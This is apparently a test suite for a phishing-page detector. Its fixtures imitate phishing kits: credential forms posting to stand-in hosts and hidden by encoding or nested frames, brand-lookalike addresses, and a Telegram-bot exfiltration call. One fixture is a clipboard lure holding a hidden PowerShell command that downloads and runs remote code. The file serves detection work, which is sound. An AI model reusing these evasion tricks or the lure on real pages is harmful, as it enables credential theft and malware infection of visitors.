/**
 * Tests that deceptive pages are blocked, with the file and the line. Each page imitates a kind of
 * phishing kit; they contain names of brands, because the check looks for those.
 */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import {
  listFindings,
  onePage,
  listBrokenRules,
  oneScript,
  type TestPages,
} from './page-fixtures.ts'
import { checkRules } from './rules.ts'

const password = '<input type="password" name="p">'
const steals = `<form action="https://collect.example/p.php" method="post">${password}</form>`

const bad: [name: string, found: string, pages: TestPages][] = [
  [
    'a password form that posts elsewhere',
    'password_sent_elsewhere index.html:2',
    onePage(`<title>Portal</title>\n${steals}`),
  ],
  [
    'a password form that posts to another site of the service',
    'password_sent_elsewhere index.html:1',
    onePage(`<form action="http://other.sites.example:4400/api/x">${password}</form>`),
  ],
  [
    'a password form whose URL has no protocol',
    'password_sent_elsewhere index.html:1',
    onePage(`<form action="//collect.example/p">${password}</form>`),
  ],
  [
    'a password form redirected by a base element',
    'password_sent_elsewhere index.html:3',
    onePage(
      `<base href="https://collect.example/">\n<title>x</title>\n<form action="/login">${password}</form>`,
    ),
  ],
  [
    'a password form whose button posts elsewhere',
    'password_sent_elsewhere index.html:2',
    onePage(
      `<form action="/api/login">${password}\n<button formaction="https://collect.example">Go</button></form>`,
    ),
  ],
  [
    'a password field outside its form',
    'password_sent_elsewhere index.html:1',
    onePage(
      `<form id="f" action="https://collect.example"></form><p><input form="f" type="password"></p>`,
    ),
  ],
  [
    'a password form that is sent by mail',
    'password_sent_elsewhere index.html:1',
    onePage(`<form action="mailto:me@example.com">${password}</form>`),
  ],
  [
    'a text field styled like a password',
    'password_sent_elsewhere index.html:1',
    onePage(
      `<form action="https://collect.example"><input type="text" style="-webkit-text-security: disc" name="x"></form>`,
    ),
  ],
  [
    'a field named like a password',
    'password_sent_elsewhere index.html:1',
    onePage(`<form action="https://collect.example"><input name="wachtwoord"></form>`),
  ],
  [
    'a password form in malformed HTML',
    'password_sent_elsewhere index.html:1',
    onePage(`<table><form action=https://collect.example><tr><td><INPUT TYPE=Password ></table>`),
  ],
  [
    'a password form whose URL is encoded as entities',
    'password_sent_elsewhere index.html:1',
    onePage(`<form action="https&#58;&#x2f;/collect.example">${password}</form>`),
  ],
  [
    'a password form in a style element of an SVG',
    'password_sent_elsewhere index.html:1',
    onePage(`<svg><style><div>${steals}</style></svg>`),
  ],
  [
    'a password form in noscript',
    'password_sent_elsewhere index.html:1',
    onePage(`<noscript>${steals}</noscript>`),
  ],
  [
    'a password form in srcdoc of a frame',
    'password_sent_elsewhere index.html:2',
    onePage(`<title>x</title>\n<iframe srcdoc="${steals.replaceAll('"', '&quot;')}"></iframe>`),
  ],
  [
    'a password form in a base64 data URL',
    'password_sent_elsewhere index.html:1',
    onePage(
      `<iframe src="data:text/html;base64,${Buffer.from(steals).toString('base64')}"></iframe>`,
    ),
  ],
  [
    'a password form in a percent-encoded data URL',
    'password_sent_elsewhere index.html:1',
    onePage(`<object data="data:text/html;charset=utf-8,${encodeURIComponent(steals)}"></object>`),
  ],
  [
    'a password form written by a script from escaped text',
    'password_sent_elsewhere index.html:2',
    onePage(
      `<title>x</title><script>\ndocument.write(unescape('${encodeURIComponent(steals)}'))</script>`,
    ),
  ],
  [
    'a password form written by a script from base64',
    'password_sent_elsewhere index.html:1',
    onePage(`<script>document.write(atob("${Buffer.from(steals).toString('base64')}"))</script>`),
  ],
  [
    'a password form in three nested frames',
    'password_sent_elsewhere index.html:1',
    onePage(packed(3)),
  ],
  [
    'a password form in four nested frames',
    'page_hidden_too_deep index.html:1',
    onePage(packed(4)),
  ],
  [
    'a password form in an SVG file',
    'password_sent_elsewhere a.svg:1',
    {
      'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${steals}</foreignObject></svg>`,
    },
  ],
  [
    'a password form in a UTF-16 page',
    'password_sent_elsewhere index.html:1',
    {
      'index.html': Buffer.from(`\ufeff${steals}`, 'utf16le'),
    },
  ],
  [
    'a password form in a folder',
    'password_sent_elsewhere a/b c/login.html:1',
    { 'a/b c/login.html': steals },
  ],
  [
    'a card form that posts elsewhere',
    'card_sent_elsewhere index.html:1',
    onePage(
      `<form action="https://collect.example"><input autocomplete="cc-number"><input name="cvc"></form>`,
    ),
  ],
  [
    'a password form that posts to a collection',
    'secret_kept_in_collection index.html:1',
    onePage(
      `<form action="https://homeport.example/api/v1/public/collections/logins/documents">${password}</form>`,
    ),
  ],
  [
    'a card form that posts to a collection',
    'secret_kept_in_collection index.html:1',
    onePage(`<form data-collection="cards"><input name="cardnumber"></form>`),
  ],
  [
    'a field for the recovery phrase of a wallet',
    'wallet_phrase_asked index.html:2',
    onePage(
      `<title>Validate</title>\n<textarea placeholder="Enter your 12-word recovery phrase"></textarea>`,
    ),
  ],
  [
    'a field for a recovery phrase, identified by its label',
    'wallet_phrase_asked index.html:1',
    onePage(`<label for="w">Secret Recovery Phrase</label><input id="w" name="w">`),
  ],
  [
    'a sign-in page of a bank',
    'imitates_brand index.html:2',
    onePage(`<title>Mijn ING - Inloggen</title>\n<form action="/api/x">${password}</form>`),
  ],
  [
    'a sign-in page of a payment service',
    'imitates_brand index.html:1',
    onePage(`<title>Log in to your PayPal account</title>${password}`),
  ],
  [
    'a sign-in page with letters of another alphabet',
    'imitates_brand index.html:1',
    onePage(`<title>Рауpal: Login</title><form>${password}</form>`),
  ],
  [
    'a sign-in page with invisible letters',
    'imitates_brand index.html:1',
    onePage(`<title>Pay\u200bPal: Log\u00adin</title><form>${password}</form>`),
  ],
  [
    'a sign-in page with a brand in its heading and a meaningless title',
    'imitates_brand index.html:1',
    onePage(`<title>Untitled document</title><h1>Microsoft</h1><form>${password}</form>`),
  ],
  [
    'a sign-in page with a brand in its heading and no title',
    'imitates_brand index.html:1',
    {
      'index.html': `<h1>Welkom bij DigiD</h1><form>${password}</form>`,
      'robots.txt': '',
    },
  ],
  [
    'a page of a bank that asks for a PIN',
    'imitates_brand index.html:1',
    onePage(`<title>Rabobank</title><form><input name="pincode"></form>`),
  ],
  [
    'a sign-in page with an ambiguous brand name that loads the icon of the brand',
    'imitates_brand index.html:1',
    onePage(
      `<title>Apple</title><link rel="icon" href="https://www.apple.com/favicon.ico"><form>${password}</form>`,
    ),
  ],
  [
    'a sign-in page whose password field is in a script file',
    'imitates_brand index.html:1',
    {
      ...onePage(`<title>Netflix</title><div id="root"></div><script src="/app.js"></script>`),
      ...oneScript('h("input",{type:"password"})'),
    },
  ],
  [
    'a sign-in page of this service',
    'imitates_brand index.html:1',
    onePage(`<title>Homeport - sign in</title>${password}`),
  ],
  [
    'a link that shows a bank but leads elsewhere',
    'link_shows_other_address index.html:2',
    onePage(`<title>x</title>\n<a href="https://evil.example/x">https://www.ing.nl/inloggen</a>`),
  ],
  [
    'a link that shows a brand but leads to the site itself',
    'link_shows_other_address index.html:1',
    onePage(`<a href="/login.html">www.paypal.com</a>`),
  ],
  [
    'a link with the host of a brand before an @',
    'address_hides_host index.html:1',
    onePage(`<a href="https://www.rabobank.nl@evil.example/">Rabobank</a>`),
  ],
  [
    'a link with digits instead of letters',
    'address_looks_like_brand index.html:1',
    onePage(`<a href="https://www.paypa1.com/">PayPal</a>`),
  ],
  [
    'a link with letters of another alphabet',
    'address_looks_like_brand index.html:1',
    onePage(`<a href="https://www.раypal.com/">PayPal</a>`),
  ],
  [
    'a link whose host begins with the host of a brand',
    'address_looks_like_brand index.html:1',
    onePage(`<a href="https://login.microsoftonline.com.session.example/">Sign in</a>`),
  ],
  [
    'a frame with two letters that look like one',
    'address_looks_like_brand index.html:1',
    onePage(`<iframe src="https://rnicrosoft.com/"></iframe>`),
  ],
  [
    'a page that redirects to an imitated host',
    'address_looks_like_brand index.html:1',
    onePage(`<meta http-equiv="refresh" content="0;url='https://paypa1.com/'">`),
  ],
  [
    'a known bad link',
    'known_bad_link index.html:1',
    onePage(`<a href="https://grabify.link/ABC">gift</a>`),
  ],
  [
    'a known bad script',
    'known_bad_link index.html:2',
    onePage(`<title>x</title>\n<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script>`),
  ],
  [
    'a known bad address in a script',
    'known_bad_link app.js:2',
    oneScript(`const a = 1\nimportScripts('https:\\/\\/coinhive.com\\/lib\\/x.js')`),
  ],
  [
    'a known bad address in a style',
    'known_bad_link a.css:1',
    { 'a.css': 'a{background:url(https://iplogger.org/x.gif)}' },
  ],
  [
    'a script that sends a password to a chat bot',
    'secret_sent_to_chat app.js:2',
    {
      ...onePage(
        `<title>Portal</title><form id="f">${password}</form><script src="/app.js"></script>`,
      ),
      ...oneScript(`let x\nfetch("https://api.telegram.org/bot123:ABC/sendMessage")`),
    },
  ],
  [
    'a page that instructs visitors to run a command',
    'command_to_paste index.html:2',
    onePage(
      `<p>To prove that you are human press Windows Key + R, then Ctrl + V and Enter.</p>
     <script>navigator.clipboard.writeText('powershell -w hidden -c "iwr https://x.example|iex"')</script>`,
    ),
  ],
]

function packed(times: number): string {
  let text = steals
  for (let time = 0; time < times; time += 1) {
    text = `<iframe srcdoc="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`
  }
  return text
}

describe('blocks deceptive pages', () => {
  for (const [name, found, pages] of bad) {
    it(name, () => assert.deepEqual(listBrokenRules(pages), [found]))
  }
})

describe('blocks an address similar to a brand if the page has a sign-in form', () => {
  const signIn = onePage(`<title>Inloggen</title><form action="/api/login">${password}</form>`)
  const slugs = `paypal paypal-login paypa1-secure mijn-ing-inloggen ing-bank rnicrosoft-online
    microsoft365-login rabobank-veilig-nl digid abn-amro-verificatie facebooklogin icloud-support
    netflix-account-update mijnbelastingdienst metamask-wallet postnl-pakket-nl homeport-portal`
  for (const slug of slugs.split(/\s+/)) {
    it(slug, () =>
      assert.deepEqual(listBrokenRules(signIn, { slug }), ['imitates_brand_address index.html:1']),
    )
  }

  it('accepts an address that is similar to a brand if the page has no sign-in form', () => {
    assert.deepEqual(
      listBrokenRules(onePage('<title>Betalen met PayPal</title>'), { slug: 'paypal' }),
      [],
    )
  })

  it('also blocks a page that asks for an account name under the name of the brand', () => {
    const first = onePage('<title>PayPal: inloggen</title><form><input type="email"></form>')
    assert.deepEqual(listBrokenRules(first, { slug: 'paypal-login' }), [
      'imitates_brand index.html:1',
    ])
    assert.deepEqual(listBrokenRules(first, { slug: 'jansen' }), [])
  })
})

describe('a finding', () => {
  const [finding] = listFindings(onePage(`<title>x</title>\n${steals}`))

  it('has the fault, the place, the reason and a fingerprint', () => {
    assert.deepEqual(finding, {
      rule: 'password_sent_elsewhere',
      path: 'index.html',
      line: 2,
      what: 'This form sends a password to collect.example.',
      why: checkRules.password_sent_elsewhere.why,
      digest: finding?.digest,
    })
    assert.match(finding?.digest ?? '', /^[\w-]{43}$/)
  })

  it('keeps its fingerprint if another part of the page changes', () => {
    const [later] = listFindings(onePage(`<title>y</title>\n<h1>New</h1>\n\n${steals}`))
    assert.equal(later?.digest, finding?.digest)
  })

  it('gets another fingerprint if its target or its page changes', () => {
    const [elsewhere] = listFindings(onePage(steals.replace('collect', 'gather')))
    const [moved] = listFindings({ 'login.html': steals })
    assert.equal(new Set([finding?.digest, elsewhere?.digest, moved?.digest]).size, 3)
  })

  it('is reported once, however often it occurs', () => {
    assert.equal(listFindings(onePage(steals.repeat(20))).length, 1)
  })

  it('is reported up to a limit of fifty', () => {
    const forms = Array.from({ length: 80 }, (_, at) => steals.replace('collect', `c${at}`))
    assert.equal(listFindings(onePage(forms.join('\n'))).length, 50)
  })
})

describe('every rule', () => {
  it('describes the fault, the reason and the fix in whole sentences', () => {
    for (const [name, { stops, why, instead }] of Object.entries(checkRules)) {
      assert.match(name, /^[a-z]+(_[a-z]+)+$/)
      assert.match(stops, /^[a-z].*[^.]$/)
      assert.match(why, /^[A-Z].*\.$/)
      assert.match(instead, /^[A-Z].*\.$/)
      // The text may not suggest a feature that does not exist yet.
      assert.doesNotMatch(instead, /\bapp with\b|\bown app\b|\/api/, name)
    }
  })
})
